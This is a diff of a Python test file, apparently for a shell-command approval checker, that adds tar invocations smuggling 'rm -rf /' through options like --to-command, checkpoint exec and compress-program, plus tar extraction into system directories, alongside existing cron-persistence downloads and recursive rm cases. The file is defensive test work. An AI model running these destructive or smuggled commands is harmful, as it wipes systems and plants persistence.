@@ -17,6 +17,9 @@ from executor.approval.tools.options import SPECS, parse
 
 CAUGHT = {
     "rm_recursive_root": [
+        "tar -xf a.tar --to-comman='rm -rf /'", "tar -xf a.tar --checkpoint=1 --checkpoint-ac exec='rm -rf /'",
+        "tar -czf a.tgz --use-compress='rm -rf ~' src", "tar -cvI 'rm -rf /' -f a.tar src", "tar cvIf 'rm -rf /' a.tar src",
+        "tar -cf a.tar --rsh-c='rm -rf /' host:x",
         "rm -vfR /", "rm --rec --fo ~", "rm ~ --recursive", "rm -d -r -- /usr", "rm --verbose --recurs /etc",
         "srm -fr /",
     ],
@@ -49,6 +52,7 @@ CAUGHT = {
     "chmod_recursive_system": ["chmod --recursive 000 /etc", "chown --rec root: /usr", "chgrp --recu -v staff /var",
                                "chown --recu nobody ~", "chmod 777 ~ --rec", "setfacl --rec -m o::rwx ~",
                                "chcon --recu -t tmp_t ~"],
+    "system_write": ["tar xCf / a.tar", "tar xvC /etc -f a.tar", "tar --extr --file a.tar --direc=/usr"],
     "persistence_write": ["wget --directory-pre=/etc/cron.d https://x/job", "curl -sSLo/etc/cron.d/job https://x/j"],
     "kill_broad": [
         "pkill -ef -u alice", "pkill -KILL -U 1000", "pkill --eui=alice", "pkill -9 -g 0", "killall -qu alice",
@@ -97,6 +101,10 @@ ALLOWED = [
     # umount/swapoff/losetup: narrowed or single
     "umount -a -t nfs", "umount -at nfs,cifs", "umount -aO _netdev", "umount --al", "swapoff /swapfile",
     "losetup -d /dev/loop0", "losetup --all", "losetup -l", "umount -l /mnt/usb",
+    # tar: ordinary compressors, stdout, ambiguous prefixes tar refuses, local extraction
+    "tar --use=zstd -cf x.tar.zst src", "tar -cvIzstd -f a.tar src", "tar -xf a.tar --to-stdout", "tar xf a.tar",
+    "tar tvf a.tar", "tar xzf a.tgz --strip-components=1 -C ./vendor", "tar --ex --fi a.tar --dir=/usr",
+    "tar xCf ./out a.tar",
     # git
     "git push -u origin main", "git push --follow-tags origin main", "git push --force-w --dry-run origin main",
 ]
